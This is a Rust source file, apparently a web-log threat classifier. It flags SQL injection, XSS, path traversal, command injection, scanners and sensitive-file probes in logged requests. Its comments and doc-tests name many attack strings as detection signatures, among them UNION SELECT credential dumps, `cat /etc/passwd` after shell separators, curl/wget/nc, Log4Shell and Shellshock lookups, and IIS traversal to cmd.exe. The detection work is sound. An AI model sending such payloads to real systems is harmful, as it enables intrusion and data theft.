//! Is a request an attack, and of which kinds?
//!
//! In: one [`Record`] — its path and query exactly as nginx logged them
//! (percent-encoded, `+` for spaces in the query), its user agent and
//! referer. Out: a [`Threats`] set, empty for the overwhelming majority of
//! requests. [`classify`] covers every [`Threat`] except
//! [`Threat::Flood`], which no single request shows: the rollup sets it from
//! per-batch per-IP counts, which [`FloodCounter`] keeps.
//!
//! How each kind is recognised:
//! * **SQL injection** and **XSS**: libinjection (the `libinjectionrs`
//!   port), the detector behind ModSecurity's Core Rule Set, run on each
//!   query parameter's value (and name) and on the path. Its SQL check costs
//!   microseconds in this port, so it only runs on text that could be an
//!   injection: a quote, `;`, `#`, `` ` ``, `--`, `/*`, or an SQL word —
//!   `union`, `select`, `sleep`, …; `and`, `or`, `order`, … only next to an
//!   operator or after a number (`1 or 1=1`); functions only when called
//!   (`char(`) — so `(5+3)*2` and `rock and roll` never reach it. The XSS
//!   check runs on text with an angle bracket or a quote. Additions for what
//!   libinjection lets pass: a value that is only a quote after a word,
//!   perhaps commenting out the rest (`1'`, `"`, `admin'#`) — the error
//!   probe that opens every SQL injection scan; a statement stacked after
//!   a value (`1;SELECT * FROM users`); a `<script` anywhere; a
//!   value or path segment starting with a script URL (`javascript:`,
//!   `data:text/html`); a quote that leaves a JavaScript string to call a
//!   sink (`';alert(1);//`); AngularJS template injection (`{{constructor…`).
//! * **Path traversal**: a `..` segment (`../`, `..\`, `..;/`) anywhere in the
//!   path — browsers resolve those before sending, so only tools send them;
//!   in a parameter, two or more, or one that leads to a sensitive target;
//!   a parameter naming a system file outright (`/etc/passwd`,
//!   `C:\Windows\win.ini`, `file://`, `php://filter`).
//! * **Command injection**: a shell separator (`;`, `|`, `||`, `&`, `&&`, a
//!   newline, a backtick, `$(`) followed by a shell command (`id`, `cat
//!   /etc/passwd`, `wget`, `curl`, `sh`, `nc`, …); commands that are also
//!   English words (`cat`, `sleep`, `echo`, `ping`, …) need an argument of
//!   the right shape, and a `|`- or `;`-separated list of plain words is a
//!   list, not a pipeline. Also Shellshock (`() {` at the start of a
//!   parameter, the user agent or the referer) and Log4Shell lookups
//!   (`${jndi:` and its obfuscations), which execute code on the server;
//!   the code-execution gadgets of template engines, expression languages
//!   and databases (FreeMarker's `Execute`, Jinja2's `__globals__`, Twig's
//!   `filter('system')`, SpEL's `T(java.lang.Runtime)`, OGNL, Drupal's
//!   `#post_render`, `xp_cmdshell`); a climb that reaches a shell
//!   (`..%c1%1c../winnt/system32/cmd.exe`, `/cgi-bin/.%2e/.%2e/bin/sh`); a
//!   command in base64 to a shell parameter (`system=aWQ=`); and requests
//!   for endpoints that run the request body (`/GponForm/diag_Form`,
//!   PHPUnit's `eval-stdin.php`).
//! * **Scanner**: the user agent names a scanner
//!   ([`super::client::ClientClass::Scanner`]).
//! * **Sensitive file**: the path asks for secrets or internals: `/.env`,
//!   `/.git/`, `wp-config.php`, `.htpasswd`, `id_rsa`, `/.aws/credentials`,
//!   configuration (`config.yml`, `php.ini`, `/Dockerfile`, and
//!   `/config.json` unless a front end's asset), backups and dumps
//!   (`*.bak`, `*.sql`, `backup.zip`, `*~`), admin and debug endpoints
//!   (`/phpmyadmin`, `/server-status`, `/actuator/env`, `/debug/pprof`,
//!   `/manager/html`, `/console`, `/__debug__/`, `/_debugbar`,
//!   `/telescope`, `/jenkins/script`, `/solr/admin`, `/druid/…`,
//!   `/nacos/…`, Consul's, etcd's, Kubernetes' and Docker's APIs,
//!   Elasticsearch's `_cat`, CouchDB's `_all_dbs`), archives in backup
//!   directories, `/etc/passwd`, and what a climb reaches under a
//!   system's own directories (`../../etc/issue`, `windows\repair\sam`)
//!   — but not
//!   a name whose slashes were sent encoded (`/wiki/%2Fetc%2Fpasswd` is a
//!   page title), nor a file shown by a code-hosting site's viewer
//!   (`/owner/repo/raw/main/.env`). The path, case-insensitive, and one query switch
//!   (`?phpinfo=1`).
//!
//! Text is percent-decoded before it is tested — twice when the first pass
//! leaves `%XX` behind (double encoding) — with `%uXXXX` and the overlong
//! UTF-8 forms of `.`, `/` and `\` decoded as the old servers that honoured
//! them did. Decoding happens only when a `%` (or a `+` in the query) is
//! present, into a stack buffer for anything under 512 bytes, so the common
//! request costs one table lookup per byte of its path and query, a check
//! of each path segment, and no allocation: about 2,600 instructions a
//! record on the rollup benchmark's traffic (callgrind, `classify_with_client`
//! inclusive); libinjection brings a request that reaches it to 10–35
//! thousand.
//!
//! Guarantees: never panics, whatever the bytes; every answer depends on
//! the record alone. Detection and false-positive rates are measured by
//! `tests/threat_corpus.rs`, on a corpus and on a held-out set.
//!
//! Known limits: only the path, the query, the user agent and the referer
//! are seen — request bodies (most SQL injection against login forms, most
//! exploits) and other headers never reach the log. Detection is by
//! signature: novel or heavily obfuscated payloads pass, and a search for
//! an attack string (`q=' or 1=1 --`) is reported as that attack. Commands
//! passed to a web shell as a whole parameter (`?cmd=id`) are not seen (no
//! separator), nor are traversals hidden behind a NUL (`..%00/`).
//! libinjection's own false positives remain (`1 < 2 and 3 > 2`,
//! `if (x > 0)`), as do its misses (`1 or true`, `CASE WHEN` in `ORDER
//! BY`, entity-encoded tabs in `javascript:`). The
//! `libinjectionrs` port diverges from C libinjection in a few places
//! (lower-case `into outfile`, multi-word keywords such as `LOCK IN SHARE
//! MODE`, `@var(` as a function), each a missed detection, never a false
//! one.

use std::collections::HashMap;
use std::hash::{BuildHasher, RandomState};
use std::net::IpAddr;

use schemas::Record;

use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickKind};

use super::client::{client_class, ClientClass};

/// A kind of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Threat {
    SqlInjection,
    Xss,
    PathTraversal,
    CommandInjection,
    /// The client is a vulnerability scanner.
    Scanner,
    /// The path asks for a file or endpoint that is never meant to be public.
    SensitiveFile,
    /// Too many requests from one IP to one zone; set by the rollup from
    /// [`FloodCounter`], never by [`classify`].
    Flood,
}

impl Threat {
    /// Every kind, in declaration order.
    pub const ALL: [Threat; 7] = [
        Threat::SqlInjection,
        Threat::Xss,
        Threat::PathTraversal,
        Threat::CommandInjection,
        Threat::Scanner,
        Threat::SensitiveFile,
        Threat::Flood,
    ];

    /// The kind's name in rollups and the API.
    pub const fn as_str(self) -> &'static str {
        match self {
            Threat::SqlInjection => "sqli",
            Threat::Xss => "xss",
            Threat::PathTraversal => "path_traversal",
            Threat::CommandInjection => "command_injection",
            Threat::Scanner => "scanner",
            Threat::SensitiveFile => "sensitive_file",
            Threat::Flood => "flood",
        }
    }

    const fn bit(self) -> u8 {
        1 << self as u8
    }
}

/// A set of [`Threat`]s.
#[derive(Clone, Copy, Default, PartialEq, Eq, Hash)]
pub struct Threats(u8);

impl Threats {
    /// No threat.
    pub const EMPTY: Threats = Threats(0);

    pub const fn is_empty(self) -> bool {
        self.0 == 0
    }

    pub const fn contains(self, threat: Threat) -> bool {
        self.0 & threat.bit() != 0
    }

    pub fn insert(&mut self, threat: Threat) {
        self.0 |= threat.bit();
    }

    /// The threats in the set, in [`Threat::ALL`] order.
    pub fn iter(self) -> impl Iterator<Item = Threat> {
        Threat::ALL.into_iter().filter(move |t| self.contains(*t))
    }

    fn insert_if(&mut self, condition: bool, threat: Threat) {
        if condition {
            self.insert(threat);
        }
    }
}

impl std::ops::BitOr for Threats {
    type Output = Threats;

    fn bitor(self, other: Threats) -> Threats {
        Threats(self.0 | other.0)
    }
}

impl std::ops::BitOrAssign for Threats {
    fn bitor_assign(&mut self, other: Threats) {
        self.0 |= other.0;
    }
}

impl FromIterator<Threat> for Threats {
    fn from_iter<I: IntoIterator<Item = Threat>>(iter: I) -> Threats {
        let mut set = Threats::EMPTY;
        for threat in iter {
            set.insert(threat);
        }
        set
    }
}

impl std::fmt::Debug for Threats {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_set()
            .entries(self.iter().map(Threat::as_str))
            .finish()
    }
}

/// The threats one request shows (never [`Threat::Flood`]).
///
/// ```
/// use aggregator::classify::threat::{classify, Threat};
/// use schemas::Record;
///
/// let record = Record {
///     path: "/products.php",
///     query: "id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
///     user_agent: "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
///     ..Record::default()
/// };
/// assert!(classify(&record).contains(Threat::SqlInjection));
///
/// let record = Record { path: "/products.php", query: "id=42", ..record };
/// assert!(classify(&record).is_empty());
/// ```
pub fn classify(record: &Record<'_>) -> Threats {
    classify_with_client(record, client_class(record.user_agent))
}

/// [`classify`] for a caller that already knows the client's class (the
/// rollup needs it anyway), saving a second scan of the user agent.
pub fn classify_with_client(record: &Record<'_>, client: ClientClass) -> Threats {
    let mut found = Threats::EMPTY;
    found.insert_if(client == ClientClass::Scanner, Threat::Scanner);
    found.insert_if(
        header_executes_code(record.user_agent) || header_executes_code(record.referer),
        Threat::CommandInjection,
    );
    let mut scratch = Scratch::new();
    inspect_path(
        record.path.as_bytes(),
        has_referer(record.referer),
        &mut scratch,
        &mut found,
    );
    inspect_query(record.query.as_bytes(), &mut scratch, &mut found);
    found
}

// ---------------------------------------------------------------------------
// Where to look: the path, each query parameter, two headers.

fn inspect_path(raw: &[u8], referer: bool, scratch: &mut Scratch, found: &mut Threats) {
    let last_segment = &raw[memchr::memrchr(b'/', raw).map_or(0, |i| i + 1)..];
    found.insert_if(
        EXPLOIT_ENDPOINTS.contains(last_segment),
        Threat::CommandInjection,
    );
    let (path, marks) = scratch.decode(raw, false);
    found.insert_if(
        (((is_sensitive_path(path) && !names_a_page(raw))
            || (!referer && is_server_json_config(path)))
            && !in_repository_viewer(path))
            || is_root_endpoint(path),
        Threat::SensitiveFile,
    );
    if marks.is_plain() {
        return;
    }
    // Browsers resolve dot segments before sending: any left is a tool's.
    if marks.any(DOT) {
        let climbs = dot_dot_climbs(path);
        found.insert_if(climbs.count > 0, Threat::PathTraversal);
        // A climb that lands on a system file or a secret reads it too.
        let target = &path[climbs.after_last..];
        found.insert_if(
            climbs.count > 0 && reaches_secret(target),
            Threat::SensitiveFile,
        );
        found.insert_if(
            climbs.count > 0 && runs_shell(target),
            Threat::CommandInjection,
        );
    }
    found.insert_if(command_injection(path, marks), Threat::CommandInjection);
    found.insert_if(
        xss(path, marks)
            || (marks.any(COLON | AMP)
                && path.split(|&b| b == b'/').any(|s| xss_url(s, Marks::of(s)))),
        Threat::Xss,
    );
    if let Some(start) = injection_start(path, marks) {
        // libinjection reads a value, not a path: give it the path from the
        // segment where the injection seems to start.
        let tail = &path[start..];
        let last_segment = tail.rsplit(|&b| b == b'/').next().unwrap_or(tail);
        found.insert_if(
            is_quote_probe(last_segment) || sql_injection(tail),
            Threat::SqlInjection,
        );
    }
}

fn inspect_query(raw: &[u8], scratch: &mut Scratch, found: &mut Threats) {
    for param in raw.split(|&b| b == b'&').filter(|p| !p.is_empty()) {
        let (raw_name, raw_value) = match memchr::memchr(b'=', param) {
            Some(eq) => (&param[..eq], &param[eq + 1..]),
            None => (param, &param[..0]),
        };
        // `?phpinfo=1`: scripts left with a switch that prints PHP's
        // configuration.
        found.insert_if(
            raw_name.eq_ignore_ascii_case(b"phpinfo"),
            Threat::SensitiveFile,
        );
        let (value, marks) = scratch.decode(raw_value, true);
        // A climb encoded twice (`..%252f`) is there to pass a filter that
        // decodes once: only tools send one.
        found.insert_if(
            marks.any(DOT)
                && memchr::memchr_iter(b'%', raw_value)
                    .any(|i| raw_value.get(i + 1..i + 3) == Some(b"25"))
                && dot_dot_climbs(value).count > 0,
            Threat::PathTraversal,
        );
        found.insert_if(
            is_shell_parameter(raw_name, value) || names_php_exec(value),
            Threat::CommandInjection,
        );
        found.insert_if(is_code_as_callback(raw_name, value, marks), Threat::Xss);
        *found |= inspect_value(value, marks, Field::Value);
        let (name, marks) = scratch.decode(raw_name, true);
        if marks.any(NOTABLE & !(DOT | COLON | SLASH)) {
            // An injection in a parameter's name, or a query with no `=`
            // where the whole payload landed in the name (`?1'+or+'1'='1`).
            *found |= inspect_value(name, marks, Field::Name);
            let (whole, marks) = scratch.decode(param, true);
            *found |= inspect_value(whole, marks, Field::Name);
        }
    }
}

/// Parameters that name a JSONP callback: the server writes the value
/// into a script as the function to call.
static CALLBACK_PARAMETERS: WordSet = WordSet::new(&["jsonp", "callback", "jsoncallback"]);

/// A JSONP callback that is code, not a function's name
/// (`callback=alert(1)//`): a callback is an identifier or a path of them
/// (`jQuery3510_17000`, `angular.callbacks._0`, `cbs[2]`), so a call, a
/// statement or a string in it runs in the page's origin. Slashes and
/// `=` are left alone: `callback` is also where OAuth and login flows put
/// the URL to return to.
fn is_code_as_callback(name: &[u8], value: &[u8], marks: Marks) -> bool {
    marks.any(PAREN | SEMI | QUOTE | ANGLE)
        && CALLBACK_PARAMETERS.contains(name)
        && value
            .iter()
            .any(|b| matches!(b, b'(' | b')' | b';' | b'\'' | b'"' | b'<'))
}

/// Which part of a parameter a text is.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Field {
    /// What a form field or an app put after the `=`.
    Value,
    /// The name, or a whole parameter without `=`: never typed into a field.
    Name,
}

/// The threats in one decoded parameter name or value.
fn inspect_value(text: &[u8], marks: Marks, field: Field) -> Threats {
    let mut found = Threats::EMPTY;
    if marks.is_plain() {
        return found;
    }
    let traversal = traversal_in_value(text, marks);
    found.insert_if(traversal, Threat::PathTraversal);
    // A traversal is there to read a file: when that file is a system file
    // or a secret (`../../etc/passwd`, `..\\windows\\win.ini`,
    // `../wp-config.php`), the request is a sensitive-file probe as well.
    let target = &text[if traversal {
        dot_dot_climbs(text).after_last
    } else {
        text.len()
    }..];
    found.insert_if(traversal && reaches_secret(target), Threat::SensitiveFile);
    found.insert_if(traversal && runs_shell(target), Threat::CommandInjection);
    // A value that is itself a command line (`ls -la | grep txt`, `sudo apt
    // update && sudo apt upgrade`) is someone asking about the shell: an
    // injection appends a command to a value that is not one.
    let command_line = || field == Field::Value && opens_with_command(text) && !is_dropper(text);
    found.insert_if(
        (command_injection(text, marks) && !command_line()) || is_php_code(text, marks),
        Threat::CommandInjection,
    );
    found.insert_if(xss(text, marks) || xss_url(text, marks), Threat::Xss);
    found.insert_if(
        injection_start(text, marks).is_some() && (is_quote_probe(text) || sql_injection(text)),
        Threat::SqlInjection,
    );
    found
}

/// Shellshock or Log4Shell in a header (user agent, referer).
fn header_executes_code(header: &str) -> bool {
    let header = header.as_bytes();
    is_shellshock(header) || is_log4shell(header)
}

// ---------------------------------------------------------------------------
// Decoding.

/// Room for decoding on the stack; longer texts go to the heap.
const STACK_BYTES: usize = 512;

/// Percent-decoding passes at most: enough for the triple encoding that
/// scanners try (`%25252e`), a fixed cost whatever the input.
const DECODE_PASSES: usize = 3;

/// Where decoded text lives while it is tested: one per request, reused
/// for the path and each parameter in turn.
struct Scratch {
    /// Zeroed on first use: most requests have nothing to decode.
    stack: Option<[u8; STACK_BYTES]>,
    heap: Vec<u8>,
}

impl Scratch {
    const fn new() -> Scratch {
        Scratch {
            stack: None,
            heap: Vec::new(),
        }
    }

    /// `raw` percent-decoded (and `+` as a space if `plus_is_space`) — or
    /// `raw` itself when there is nothing to decode — and its marks.
    fn decode<'a>(&'a mut self, raw: &'a [u8], plus_is_space: bool) -> (&'a [u8], Marks) {
        let marks = Marks::of(raw);
        if !(marks.any(PERCENT) || plus_is_space && marks.any(PLUS)) {
            return (raw, marks);
        }
        // Decoding never lengthens text, so `raw.len()` bytes suffice.
        let buf = if raw.len() <= STACK_BYTES {
            &mut self.stack.get_or_insert([0; STACK_BYTES])[..raw.len()]
        } else {
            self.heap.clear();
            self.heap.resize(raw.len(), 0);
            &mut self.heap[..]
        };
        buf.copy_from_slice(raw);
        let len = decode_in_place(buf, plus_is_space);
        let decoded = &buf[..len];
        (decoded, Marks::of(decoded))
    }
}

/// Decodes `buf` in place as [`Scratch::decode`] does; returns the new
/// length.
fn decode_in_place(buf: &mut [u8], plus_is_space: bool) -> usize {
    let mut len = percent_decode_in_place(buf, plus_is_space);
    // Double and triple encoding (`%252e` → `%2e` → `.`) hide payloads
    // from single-decoding filters; more passes show them, up to a bound
    // so that a long chain of `%25` costs a fixed amount of work.
    for _ in 1..DECODE_PASSES {
        if !has_escape(&buf[..len]) {
            break;
        }
        len = percent_decode_in_place(&mut buf[..len], false);
    }
    fold_lookalikes_in_place(&mut buf[..len])
}

/// Decodes `%XX` and `%uXXXX` (as IIS does) in place; returns the new
/// length. Malformed escapes stay as they are.
fn percent_decode_in_place(buf: &mut [u8], plus_is_space: bool) -> usize {
    let (mut read, mut write) = (0, 0);
    while read < buf.len() {
        let b = buf[read];
        let (out, used) = match b {
            b'%' => decode_escape(&buf[read..]).unwrap_or((b'%', 1)),
            b'+' if plus_is_space => (b' ', 1),
            _ => (b, 1),
        };
        buf[write] = out;
        write += 1;
        read += used;
    }
    write
}

/// The byte an escape at the start of `s` stands for, and its length.
fn decode_escape(s: &[u8]) -> Option<(u8, usize)> {
    match s {
        [b'%', b'u' | b'U', a, b, c, d, ..] => {
            let code = (hex(*a)? << 12) | (hex(*b)? << 8) | (hex(*c)? << 4) | hex(*d)?;
            match code {
                0..=0xff => Some((code as u8, 6)),
                0x2215 | 0xff0f => Some((b'/', 6)), // division slash, fullwidth solidus
                0x2216 | 0xff3c => Some((b'\\', 6)), // set minus, fullwidth reverse solidus
                0xff0e => Some((b'.', 6)),          // fullwidth full stop
                _ => None,
            }
        }
        [b'%', a, b, ..] => Some((((hex(*a)? << 4) | hex(*b)?) as u8, 3)),
        _ => None,
    }
}

fn hex(b: u8) -> Option<u16> {
    match b {
        b'0'..=b'9' => Some((b - b'0') as u16),
        b'a'..=b'f' => Some((b - b'a' + 10) as u16),
        b'A'..=b'F' => Some((b - b'A' + 10) as u16),
        _ => None,
    }
}

fn has_escape(text: &[u8]) -> bool {
    memchr::memchr_iter(b'%', text).any(|i| decode_escape(&text[i..]).is_some())
}

/// Folds the look-alikes of ASCII that some decoders and file systems once
/// turned into the real thing into ASCII:
/// * overlong UTF-8 — any two-byte `C0`/`C1` form (`%c0%af` `/`, `%c0%ae`
///   `.`, `%c1%9c` `\`, `%c0%bc` `<`), three-byte `E0 80`/`E0 81` and
///   four-byte `F0 80 80` forms — which a strict decoder rejects and old
///   ones (IIS, Tomcat, some JVMs) decoded anyway;
/// * the broken forms IIS 4/5 also read as a separator, whose second byte
///   is no continuation byte (`%c1%1c`, `%c0%2f`, `%c0%5c`, which Nimda
///   used);
/// * the fullwidth forms of `.`, `/`, `\`, the quotes and the angle
///   brackets (`．`, `／`, `＼`, `＇`, `＂`, `＜`, `＞`), which Unicode
///   normalisation (NFKC) turns into ASCII behind a filter.
///
/// No valid UTF-8 text has `C0`, `C1`, `E0 80`, `E0 81` or `F0 80`, so
/// folding them changes no real text.
fn fold_lookalikes_in_place(buf: &mut [u8]) -> usize {
    // Every form starts with a byte of `C0` or more; one pass that the
    // compiler vectorises turns away the text that has none.
    if buf.iter().fold(0, |highest, &b| highest.max(b)) < 0xc0 {
        return buf.len();
    }
    let continuation = |b: Option<&u8>| b.filter(|b| (0x80..0xc0).contains(*b)).map(|b| b & 0x3f);
    let (mut read, mut write) = (0, 0);
    while read < buf.len() {
        let (b1, b2, b3, b4) = (
            buf[read],
            buf.get(read + 1),
            buf.get(read + 2),
            buf.get(read + 3),
        );
        let folded = match b1 {
            0xc0 | 0xc1 => match continuation(b2) {
                Some(low) => Some((((b1 & 1) << 6) | low, 2)),
                // IIS read `%c1%1c` and `%c0%2f` as a separator.
                None => match b2 {
                    Some(0x1c | 0x5c) => Some((b'\\', 2)),
                    Some(0x2f) => Some((b'/', 2)),
                    _ => None,
                },
            },
            0xe0 if matches!(b2, Some(0x80 | 0x81)) => {
                continuation(b3).map(|low| ((((b2.copied().unwrap_or(0)) & 1) << 6) | low, 3))
            }
            0xf0 if b2 == Some(&0x80) && b3 == Some(&0x80) => continuation(b4).map(|low| (low, 4)),
            0xef => match (b2, b3) {
                (Some(0xbc), Some(0x8e)) => Some((b'.', 3)),
                (Some(0xbc), Some(0x8f)) => Some((b'/', 3)),
                (Some(0xbc), Some(0xbc)) => Some((b'\\', 3)),
                (Some(0xbc), Some(0x87)) => Some((b'\'', 3)),
                (Some(0xbc), Some(0x82)) => Some((b'"', 3)),
                (Some(0xbc), Some(0x9c)) => Some((b'<', 3)),
                (Some(0xbc), Some(0x9e)) => Some((b'>', 3)),
                _ => None,
            },
            _ => None,
        };
        let (b, used) = folded.unwrap_or((b1, 1));
        buf[write] = b;
        read += used;
        write += 1;
    }
    write
}

// ---------------------------------------------------------------------------
// Which characters a text contains: one table lookup per byte, so the
// plain text most requests carry is dismissed in one pass.

const QUOTE: u32 = 1 << 0; // ' "
const BACKTICK: u32 = 1 << 1;
const ANGLE: u32 = 1 << 2; // < >
const PAREN: u32 = 1 << 3; // ( )
const SEMI: u32 = 1 << 4;
const PIPE: u32 = 1 << 5;
const AMP: u32 = 1 << 6;
const DOLLAR: u32 = 1 << 7;
const HASH: u32 = 1 << 8;
const NEWLINE: u32 = 1 << 9; // \n \r
const SPACE: u32 = 1 << 10; // space, tab, \v, \f, \n, \r
const DOT: u32 = 1 << 11;
const DASH: u32 = 1 << 12;
const STAR: u32 = 1 << 13;
const SLASH: u32 = 1 << 14;
const BACKSLASH: u32 = 1 << 15;
const COLON: u32 = 1 << 16;
const BRACE: u32 = 1 << 17; // { }
/// Only for deciding whether to decode.
const PERCENT: u32 = 1 << 18;
const PLUS: u32 = 1 << 19;
const OPERATOR: u32 = 1 << 20; // = ! ^ ~

/// Marks that make a text worth a closer look on their own (the rest only
/// matter in combination, e.g. `-` only as `--`).
const NOTABLE: u32 = QUOTE
    | BACKTICK
    | ANGLE
    | PAREN
    | SEMI
    | PIPE
    | AMP
    | DOLLAR
    | HASH
    | NEWLINE
    | SPACE
    | DOT
    | COLON
    | SLASH
    | BACKSLASH
    | BRACE;

static MARK_TABLE: [u32; 256] = {
    let mut table = [0u32; 256];
    table[b'\'' as usize] = QUOTE;
    table[b'"' as usize] = QUOTE;
    table[b'`' as usize] = BACKTICK;
    table[b'<' as usize] = ANGLE;
    table[b'>' as usize] = ANGLE;
    table[b'(' as usize] = PAREN;
    table[b')' as usize] = PAREN;
    table[b';' as usize] = SEMI;
    table[b'|' as usize] = PIPE;
    table[b'&' as usize] = AMP;
    table[b'$' as usize] = DOLLAR;
    table[b'#' as usize] = HASH;
    table[b'\n' as usize] = NEWLINE | SPACE;
    table[b'\r' as usize] = NEWLINE | SPACE;
    table[b' ' as usize] = SPACE;
    table[b'\t' as usize] = SPACE;
    table[0x0b] = SPACE;
    table[0x0c] = SPACE;
    table[b'.' as usize] = DOT;
    table[b'-' as usize] = DASH;
    table[b'*' as usize] = STAR;
    table[b'/' as usize] = SLASH;
    table[b'\\' as usize] = BACKSLASH;
    table[b':' as usize] = COLON;
    table[b'{' as usize] = BRACE;
    table[b'}' as usize] = BRACE;
    table[b'%' as usize] = PERCENT;
    table[b'+' as usize] = PLUS;
    table[b'=' as usize] = OPERATOR;
    table[b'!' as usize] = OPERATOR;
    table[b'^' as usize] = OPERATOR;
    table[b'~' as usize] = OPERATOR;
    table
};

#[derive(Clone, Copy)]
struct Marks(u32);

impl Marks {
    fn of(text: &[u8]) -> Marks {
        Marks(
            text.iter()
                .fold(0, |marks, &b| marks | MARK_TABLE[b as usize]),
        )
    }

    fn any(self, marks: u32) -> bool {
        self.0 & marks != 0
    }

    /// Nothing any detector could use.
    fn is_plain(self) -> bool {
        !self.any(NOTABLE | DASH | STAR)
    }
}

// ---------------------------------------------------------------------------
// SQL injection and XSS.

/// Texts longer than this are tested on their first this-many bytes:
/// libinjection reads only the first few tokens for SQL, and a payload
/// hidden after 4 KiB of filler is not worth unbounded work per request.
const LIBINJECTION_MAX: usize = 4096;

fn libinjection_sqli(text: &[u8]) -> bool {
    libinjectionrs::detect_sqli(&text[..text.len().min(LIBINJECTION_MAX)]).is_injection()
}

/// Whether `text`, which [`injection_start`] found SQL-like, is an SQL
/// injection. libinjection decides, reading the text as it is and as if it
/// continued a quoted string; its verdict is then weighed:
/// * a whole statement typed into a search box (`select * from users
///   where id = 1`) is a question about SQL, not an injection — nothing is
///   broken out of, delayed or commented away;
/// * a verdict resting only on comparisons and `and`/`or` between numbers
///   and names (`1 < 2 and 3 > 2`, `if (x > 0)`) stands only when the text
///   opens as an injection does: a value, then a logic operator or a
///   clause (`1 and 2>1`, `1 order by 5`);
/// * what libinjection folds away or does not know is caught by grammar
///   that only injections use: `union [all|distinct] select`, a
///   time-delay call (`sleep(5)`, `pg_sleep(5)`, `benchmark(…)`, `waitfor
///   delay`), `procedure analyse`, a tautology on a boolean literal (`1 or
///   true`), a quote broken out of into a logic operator with the rest
///   commented away (`1' AND f(…)-- x`), and a statement stacked after
///   the value (`1;SELECT * FROM users`);
/// * a value that opens with a call and goes on in words (`sleep(5) vs
///   time.sleep`) is a search about the function.
fn sql_injection(text: &[u8]) -> bool {
    let words = SqlWords::of(text);
    if words.is_plain_statement(text)
        || is_question_about_call(text)
        || (!words.grammar && is_dash_in_prose(text))
    {
        return false;
    }
    if libinjection_sqli(text) {
        return words.strong || opens_as_injection(text);
    }
    words.grammar || breaks_out_of_quote(text) || stacks_statement(text)
}

/// `5/5 -- would buy again!`, `great product -- fast shipping`: a dash
/// between words of a sentence, not an SQL comment. A comment ends an
/// injection: what follows it is nothing, a `-` or one filler word
/// (`-- -`, `--+x`), never a sentence; and an injection that breaks out of
/// a string has a quote.
fn is_dash_in_prose(text: &[u8]) -> bool {
    let Some(dash) = memchr::memmem::find(text, b"-- ") else {
        return false;
    };
    let words = text[dash + 3..]
        .split(|&b| b == b' ')
        .filter(|word| {
            word.len() > 1
                && word
                    .iter()
                    .all(|b| b.is_ascii_alphabetic() || b"!?.,".contains(b))
        })
        .count();
    words >= 2
        && !text
            .iter()
            .any(|&b| b == b'"' || b == b'\'' || b == b'#' || b == b';')
}

/// `sleep(5) vs time.sleep`, `sleep(5) in python`: a call of a function
/// with plain arguments opening the text, then words — someone asking
/// about the function. An injection that opens with a call ends there
/// (`sleep(5)`), comments the rest away (`sleep(5)#`) or goes on in SQL
/// (`sleep(5) and 1=1`, `sleep(5))a`).
fn is_question_about_call(text: &[u8]) -> bool {
    let text = text.trim_ascii();
    let name = text
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
        .count();
    if name == 0 || !text[0].is_ascii_alphabetic() {
        return false;
    }
    let Some(call) = text[name..].trim_ascii_start().strip_prefix(b"(") else {
        return false;
    };
    let Some(close) = memchr::memchr(b')', call) else {
        return false;
    };
    let (arguments, rest) = (&call[..close], &call[close + 1..]);
    let first_word = rest.trim_ascii_start();
    let first_word = &first_word[..first_word
        .iter()
        .take_while(|b| b.is_ascii_alphabetic())
        .count()];
    arguments
        .iter()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b' ' | b',' | b'.' | b'_'))
        && rest.first().is_some_and(u8::is_ascii_whitespace)
        && !first_word.is_empty()
        && rest
            .iter()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b' ' | b'.' | b'_' | b'?' | b','))
        && ![
            "and",
            "or",
            "xor",
            "not",
            "div",
            "like",
            "rlike",
            "regexp",
            "union",
            "from",
            "into",
            "limit",
            "order",
            "group",
            "having",
            "procedure",
        ]
        .iter()
        .any(|op| first_word.eq_ignore_ascii_case(op.as_bytes()))
}

/// `1;SELECT * FROM users`, `x');DROP TABLE users--`: a statement
/// stacked after `;` behind the value it ends. The value is one token (a
/// sentence has spaces: `step 1; select a size from the list` is prose),
/// and the statement comes with its grammar: `select … from`, `insert
/// into`, `delete from`, `update … set`, `drop`/`truncate`/`create`/
/// `alter` and what they act on, `exec` and a procedure, `declare @`,
/// `shutdown`. Comments stand for spaces (`;SELECT/**/*/**/FROM`).
fn stacks_statement(text: &[u8]) -> bool {
    memchr::memchr_iter(b';', text).any(|semi| {
        if text[..semi]
            .trim_ascii()
            .iter()
            .any(u8::is_ascii_whitespace)
        {
            return false;
        }
        let (keyword, rest) = sql_word(&text[semi + 1..]);
        let (next, _) = sql_word(rest);
        let is = |w: &[u8], expected: &str| w.eq_ignore_ascii_case(expected.as_bytes());
        let later = |expected: &str| {
            rest.split(|b| !(b.is_ascii_alphanumeric() || *b == b'_'))
                .any(|w| is(w, expected))
        };
        let objects = [
            "user",
            "view",
            "index",
            "login",
            "table",
            "schema",
            "trigger",
            "database",
            "function",
            "procedure",
        ];
        let one_of = |words: &[&str]| words.iter().any(|w| is(keyword, w));
        if is(keyword, "select") {
            later("from") || rest.contains(&b'(') || rest.starts_with(b"@@")
        } else if is(keyword, "insert") {
            is(next, "into")
        } else if is(keyword, "delete") {
            later("from")
        } else if is(keyword, "update") {
            later("set")
        } else if one_of(&["drop", "truncate", "create", "alter"]) {
            objects.iter().any(|o| is(next, o))
        } else if one_of(&["exec", "execute"]) {
            !next.is_empty()
        } else if is(keyword, "declare") {
            rest.trim_ascii_start().starts_with(b"@")
        } else if is(keyword, "shutdown") {
            let rest = rest.trim_ascii_start();
            rest.is_empty()
                || [&b"--"[..], b"#", b"/*", b";"]
                    .iter()
                    .any(|c| rest.starts_with(c))
        } else {
            false
        }
    })
}

/// The SQL word `text` starts with, after spaces and `/* … */` comments,
/// and what follows it (from right after the word).
fn sql_word(text: &[u8]) -> (&[u8], &[u8]) {
    let mut text = text;
    loop {
        text = text.trim_ascii_start();
        match text.strip_prefix(b"/*") {
            Some(comment) => match find_pair(comment, b'*', b'/') {
                Some(end) => text = &comment[end + 2..],
                None => return (b"", b""),
            },
            None => break,
        }
    }
    let len = text
        .iter()
